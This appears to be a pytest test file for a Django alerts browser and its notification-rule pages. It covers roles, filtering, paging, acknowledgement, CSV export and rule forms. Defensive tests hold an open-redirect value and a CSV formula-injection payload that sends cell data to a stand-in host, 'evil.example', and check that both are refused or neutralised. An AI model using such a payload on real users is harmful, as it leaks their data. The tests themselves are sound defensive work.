"""The alerts browser and the notification rule pages: login and roles, filters, keyset pages, live
updates, acknowledging, CSV, detail, rule forms with their errors, secrets never shown, send test."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from alerts.models import Event, NotificationRule
from tests.alerts.factories import SAFE_DEFAULTS, DeliveryFactory, EmailRuleFactory, SnmpRuleFactory, V3RuleFactory
from tests.factories import ClusterFactory, EventFactory

PAGES = ["/alerts/", "/alerts/new/?after=0", "/alerts/export.csv", "/alerts/rules/"]


@pytest.fixture
def cluster(db):
    return ClusterFactory(name="signs-1")


@pytest.mark.parametrize("url", PAGES)
def test_it_sends_anonymous_users_to_the_login_page(anonymous_pages, url):
    response = anonymous_pages.get(url)

    assert response.status_code == 302 and response["Location"].startswith("/login/?next=")


@pytest.mark.parametrize("url", PAGES)
def test_it_refuses_users_without_a_role(outsider_pages, url):
    assert outsider_pages.get(url).status_code == 403


def test_the_login_page_and_a_post_only_logout(anonymous_pages, viewer_pages):
    login = anonymous_pages.get("/login/")

    assert login.status_code == 200 and b"Sign in" in login.content
    assert viewer_pages.get("/logout/").status_code == 405
    assert viewer_pages.post("/logout/").status_code == 302
    assert viewer_pages.get("/alerts/").status_code == 302


def test_the_layout_has_the_navigation(viewer_pages, viewer_user):
    page = viewer_pages.get("/alerts/").content.decode()

    for link in ('href="/"', 'href="/alerts/"', 'href="/alerts/rules/"', 'href="/api/docs/"'):
        assert link in page
    assert viewer_user.username in page and 'action="/logout/"' in page
    assert "/static/js/htmx.min.js" in page and "cdn" not in page.lower()


def test_it_lists_events_newest_first_with_severity_in_colour_and_word(viewer_pages, cluster):
    old = EventFactory(cluster=cluster, message="first thing")
    new = EventFactory(type="component_failed", severity="warning", cluster=cluster, message="second thing")

    page = viewer_pages.get("/alerts/").content.decode()

    assert page.index("second thing") < page.index("first thing")
    assert 'class="badge badge-red"' in page and "Critical</span>" in page
    assert 'class="badge badge-amber"' in page and "Warning</span>" in page
    assert f'href="/alerts/{new.pk}/"' in page and f'href="/alerts/{old.pk}/"' in page


def test_it_counts_unacknowledged_alerts_by_severity_each_linked_to_its_list(viewer_pages, cluster):
    EventFactory.create_batch(2, cluster=cluster, type="server_failed")
    EventFactory(cluster=None, type="clock_skew_detected")
    EventFactory.create_batch(4, cluster=cluster, type="server_recovered")
    EventFactory(cluster=cluster, type="failover_completed", acknowledged_at=timezone.now())

    page = viewer_pages.get("/alerts/").content.decode()

    for severity, text in (("critical", "2 critical"), ("warning", "1 warning"), ("info", "4 info")):
        link = f'href="/alerts/?acknowledged=false&amp;severity={severity}">{text}</a>'
        assert f'class="count count-{severity}" data-severity="{severity}" {link}' in page
    listed = viewer_pages.get("/alerts/?acknowledged=false&severity=critical").content.decode()
    assert listed.count("<tr class=") == 2


def test_it_filters_with_the_event_filterset(viewer_pages, cluster):
    other = ClusterFactory()
    EventFactory(cluster=cluster, message="disk on fire")
    EventFactory(cluster=other, message="disk on fire elsewhere")
    EventFactory(type="licenses_copied", severity="info", cluster=cluster, message="licenses ok")
    EventFactory(cluster=cluster, message="acked disk", acknowledged_at="2026-01-01T00:00:00Z")

    def messages(query):
        response = viewer_pages.get("/alerts/?" + query)
        return {e.message for e in response.context["events"]}

    assert messages(f"cluster={cluster.pk}&type=server_failed&acknowledged=false") == {"disk on fire"}
    assert messages("severity=info") == {"licenses ok"}
    assert messages("q=elsewhere") == {"disk on fire elsewhere"}
    assert messages("acknowledged=true") == {"acked disk"}
    assert messages("since=2099-01-01T00:00") == set()


def test_it_pages_by_id_without_counting(viewer_pages, cluster):
    events = EventFactory.create_batch(55, cluster=cluster)

    with CaptureQueriesContext(connection) as queries:
        first = viewer_pages.get("/alerts/")
    second = viewer_pages.get(f"/alerts/?before={first.context['next_before']}")

    assert [e.pk for e in first.context["events"]] == [e.pk for e in reversed(events)][:50]
    assert [e.pk for e in second.context["events"]] == [e.pk for e in reversed(events)][50:]
    assert second.context["next_before"] is None
    assert not any("COUNT(" in q["sql"].upper() for q in queries.captured_queries)
    assert b"hx-trigger" in first.content and b"hx-trigger" not in second.content  # live only on the newest page


def test_the_live_fragment_brings_only_newer_matching_events(viewer_pages, cluster):
    seen = EventFactory(cluster=cluster)
    newer = EventFactory(cluster=cluster, message="arrived later")
    EventFactory(type="licenses_copied", severity="info", cluster=cluster, message="filtered out")

    fragment = viewer_pages.get(f"/alerts/new/?after={seen.pk}&type=server_failed").content.decode()

    assert "arrived later" in fragment and "filtered out" not in fragment
    assert 'hx-swap-oob="afterbegin:#event-rows"' in fragment
    assert f"after={newer.pk}" in fragment  # the poller moves its cursor


def test_a_viewer_sees_no_acknowledge_controls_and_cannot_post(viewer_pages, cluster):
    event = EventFactory(cluster=cluster)

    page = viewer_pages.get("/alerts/").content.decode()
    response = viewer_pages.post("/alerts/acknowledge/", {"ids": [event.pk]})

    assert "Acknowledge selected" not in page and 'name="one"' not in page and 'name="ids"' not in page
    assert response.status_code == 403
    assert Event.objects.get(pk=event.pk).acknowledged_at is None


def test_an_operator_acknowledges_many_at_once(operator_pages, operator_user, cluster):
    first, second, untouched = EventFactory.create_batch(3, cluster=cluster)

    response = operator_pages.post(
        "/alerts/acknowledge/", {"ids": [first.pk, second.pk], "next": "/alerts/?severity=critical"}, follow=True
    )

    assert response.redirect_chain[-1][0] == "/alerts/?severity=critical"
    assert "Acknowledged 2 events." in response.content.decode()
    assert set(Event.objects.filter(acknowledged_by=operator_user).values_list("pk", flat=True)) == {
        first.pk,
        second.pk,
    }
    assert Event.objects.get(pk=untouched.pk).acknowledged_at is None


def test_an_operator_acknowledges_one_from_its_row(operator_pages, cluster):
    event, other = EventFactory.create_batch(2, cluster=cluster)

    operator_pages.post("/alerts/acknowledge/", {"one": event.pk, "ids": [other.pk]})

    assert Event.objects.get(pk=event.pk).acknowledged_at is not None
    assert Event.objects.get(pk=other.pk).acknowledged_at is None


def test_acknowledge_needs_csrf(operator_user, cluster):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(operator_user)
    event = EventFactory(cluster=cluster)

    assert client.post("/alerts/acknowledge/", {"ids": [event.pk]}).status_code == 403


def test_acknowledge_never_redirects_off_site(operator_pages, cluster):
    event = EventFactory(cluster=cluster)

    response = operator_pages.post("/alerts/acknowledge/", {"one": event.pk, "next": "https://evil.example/"})

    assert response["Location"] == "/alerts/"


def test_the_csv_export_streams_the_filtered_list(viewer_pages, cluster):
    EventFactory(cluster=cluster, message='quoted "message", with comma')
    EventFactory(type="licenses_copied", severity="info", cluster=cluster, message="not wanted")

    response = viewer_pages.get("/alerts/export.csv?type=server_failed")
    text = b"".join(response.streaming_content).decode()

    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    lines = text.strip().splitlines()
    assert lines[0].startswith("id,created_at,type,severity,cluster")
    assert len(lines) == 2 and '"quoted ""message"", with comma"' in lines[1] and "signs-1" in lines[1]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(viewer_pages, cluster, start):
    formula = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"check disk")'
    EventFactory(cluster=cluster, message=formula)

    response = viewer_pages.get("/alerts/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert rows[1][6] == "'" + formula  # read as text, shown without the apostrophe


def test_the_detail_page_shows_the_evidence_and_links_the_cluster(viewer_pages, cluster, settings):
    settings.TIME_ZONE = "UTC"
    details = {
        "missed_slots": 3,
        "last_answer_at": 1796527358.0068035,
        "interval_s": 2.0,
        "secondary_peer": {"ok": False, "last_answer_age_s": 6.0123},
        "cause": "missed_heartbeats",
    }
    event = EventFactory(cluster=cluster, server=cluster.primary, details=details)
    DeliveryFactory(event=event, rule=EmailRuleFactory(name="noc-mail"), status="delivered")

    page = viewer_pages.get(f"/alerts/{event.pk}/").content.decode()

    # In words and units: no raw JSON, no Unix seconds.
    assert "<dt>Missed heartbeats in a row</dt><dd>3</dd>" in page
    assert "<dt>Last answer</dt><dd>2026-12-06 03:22:38.006 UTC</dd>" in page
    assert "<dt>Heartbeat interval</dt><dd>2 s</dd>" in page
    assert "<dt>Secondary&#x27;s view of the primary · last answer heard, age</dt><dd>6.012 s</dd>" in page
    assert "<dt>Cause</dt><dd>missed heartbeats</dd>" in page
    assert "1796527358" not in page and "&quot;" not in page
    assert f'href="/clusters/{cluster.pk}/"' in page
    assert "noc-mail" in page and "Delivered" in page
    assert viewer_pages.get("/alerts/999999/").status_code == 404


# -- notification rules


def test_the_rules_page_shows_rules_their_last_delivery_and_error_and_the_engine_id(viewer_pages, settings):
    settings.SNMP_ENGINE_ID = "80007ed9050102030405060708"
    SnmpRuleFactory(name="nms", last_error="SNMP inform to 10.0.0.1:162 timed out")
    V3RuleFactory(name="nms-v3")

    page = viewer_pages.get("/alerts/rules/").content.decode()

    assert "nms" in page and "SNMP inform to 10.0.0.1:162 timed out" in page
    assert "80007ed9050102030405060708" in page
    assert "New SNMP rule" not in page and "Send test" not in page  # a viewer neither edits nor tests
    for secret in ("s3cret-community", "dms-auth-key-1", "dms-priv-key-1"):
        assert secret not in page


def test_an_admin_creates_an_snmp_rule_through_the_form(admin_pages, cluster):
    form = admin_pages.get("/alerts/rules/new/snmp/")
    assert 'value="server_failed"' in form.content.decode()
    assert form.context["form"]["event_types"].value() == SAFE_DEFAULTS
    for ticked in SAFE_DEFAULTS:  # saved as it comes, the rule reports failovers too
        assert f'value="{ticked}" id="id_event_types_' in form.content.decode()

    response = admin_pages.post(
        "/alerts/rules/new/snmp/",
        {
            "name": "nms",
            "enabled": "on",
            "event_types": ["server_failed", "server_recovered", "failover_completed"],
            "min_severity": "info",
            "clusters": [cluster.pk],
            "host": "nms.example.com",
            "port": "162",
            "snmp_version": "v2c",
            "snmp_mode": "trap",
            "community": "s3cret-community",
            "auth_protocol": "sha",
            "priv_protocol": "aes128",
        },
    )

    assert response.status_code == 302, response.context["form"].errors
    rule = NotificationRule.objects.get(name="nms")
    assert rule.channel == "snmp" and rule.community == "s3cret-community"
    assert rule.event_types == ["server_failed", "server_recovered", "failover_completed"]
    assert list(rule.clusters.all()) == [cluster]


def test_the_form_shows_clear_errors(admin_pages):
    response = admin_pages.post(
        "/alerts/rules/new/snmp/",
        {"name": "bad", "min_severity": "info", "host": "bad host!", "port": "99999", "snmp_version": "v3",
         "snmp_mode": "trap", "auth_protocol": "sha", "auth_key": "short", "priv_protocol": "aes128"},
    )  # fmt: skip

    page = response.content.decode()
    assert response.status_code == 400
    assert "“bad host!” is not a hostname or an IP address." in page
    assert "Choose at least one event type." in page
    assert "less than or equal to 65535" in page
    assert "The authentication key needs at least 8 characters." in page
    assert not NotificationRule.objects.exists()


def test_an_admin_creates_an_email_rule_and_bad_addresses_are_named(admin_pages):
    data = {"name": "noc", "event_types": ["server_failed"], "min_severity": "info", "enabled": "on"}

    bad = admin_pages.post("/alerts/rules/new/email/", {**data, "recipients": "noc@example.com\nnope"})
    good = admin_pages.post("/alerts/rules/new/email/", {**data, "recipients": "noc@example.com, oncall@example.com"})

    assert "“nope” is not a valid email address." in bad.content.decode()
    assert good.status_code == 302
    assert NotificationRule.objects.get(name="noc").recipients == ["noc@example.com", "oncall@example.com"]


def test_editing_never_shows_secrets_and_blank_keeps_them(admin_pages):
    rule = V3RuleFactory(name="nms-v3")

    page = admin_pages.get(f"/alerts/rules/{rule.pk}/edit/").content.decode()
    data = {
        "name": "nms-v3-renamed", "event_types": ["server_failed"], "min_severity": "info", "host": "127.0.0.1",
        "port": "16200", "snmp_version": "v3", "snmp_mode": "inform", "snmp_user": "dmsuser", "auth_protocol": "sha",
        "auth_key": "", "priv_protocol": "aes128", "priv_key": "",
    }  # fmt: skip
    response = admin_pages.post(f"/alerts/rules/{rule.pk}/edit/", data)

    assert "dms-auth-key-1" not in page and "dms-priv-key-1" not in page
    assert "leave blank to keep it" in page
    assert response.status_code == 302, response.context["form"].errors
    rule.refresh_from_db()
    assert (rule.name, rule.auth_key, rule.priv_key) == ("nms-v3-renamed", "dms-auth-key-1", "dms-priv-key-1")


def test_only_admins_change_rules(operator_pages, viewer_pages):
    rule = EmailRuleFactory()

    for client in (operator_pages, viewer_pages):
        assert client.get("/alerts/rules/new/snmp/").status_code == 403
        assert client.get(f"/alerts/rules/{rule.pk}/edit/").status_code == 403
        assert client.post(f"/alerts/rules/{rule.pk}/delete/").status_code == 403
    assert NotificationRule.objects.filter(pk=rule.pk).exists()


def test_an_admin_deletes_a_rule_after_confirming(admin_pages):
    rule = EmailRuleFactory(name="old-rule")

    confirm = admin_pages.get(f"/alerts/rules/{rule.pk}/delete/")
    deleted = admin_pages.post(f"/alerts/rules/{rule.pk}/delete/")

    assert "Delete rule “old-rule”?" in confirm.content.decode()
    assert deleted.status_code == 302 and not NotificationRule.objects.exists()


def test_send_test_shows_the_outcome(operator_pages, settings, mailoutbox):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    rule = EmailRuleFactory(name="noc-mail", recipients=["noc@example.com"])

    page = operator_pages.post(f"/alerts/rules/{rule.pk}/test/", follow=True).content.decode()

    assert "Test notification of “noc-mail” delivered (noc@example.com)." in page
    assert len(mailoutbox) == 1


def test_send_test_shows_the_error(operator_pages, settings):
    from tests.support.agents import free_port

    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", free_port()
    rule = EmailRuleFactory(name="noc-mail")

    page = operator_pages.post(f"/alerts/rules/{rule.pk}/test/", follow=True).content.decode()

    assert "Test of “noc-mail” failed: SMTP server unreachable" in page
    assert operator_pages.get(f"/alerts/rules/{rule.pk}/test/").status_code == 405


def test_the_snmp_form_marks_md5_and_des_as_weak(admin_pages):
    page = admin_pages.get("/alerts/rules/new/snmp/").content.decode()

    assert '<option value="md5">MD5 — weak, avoid</option>' in page
    assert '<option value="des">DES — weak, avoid</option>' in page
    assert (
        '<option value="sha256">SHA-256</option>' in page and '<option value="aes128" selected>AES-128</option>' in page
    )
    assert "MD5 is weak" in page and "DES is weak" in page
